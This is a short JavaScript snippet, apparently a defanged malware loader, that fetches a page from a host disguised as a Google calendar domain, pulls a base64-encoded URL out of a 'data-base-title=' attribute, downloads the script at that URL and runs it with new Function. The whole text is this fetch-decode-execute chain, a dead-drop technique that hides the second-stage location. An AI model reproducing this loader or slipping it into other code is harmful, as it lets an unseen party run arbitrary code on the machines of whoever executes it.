const t = await (await fetch("https://calendar.app.google.invalid/inertinert")).text();
const next = atob(t.split("data-base-title=")[1]);
new Function(await (await fetch(next)).text())();
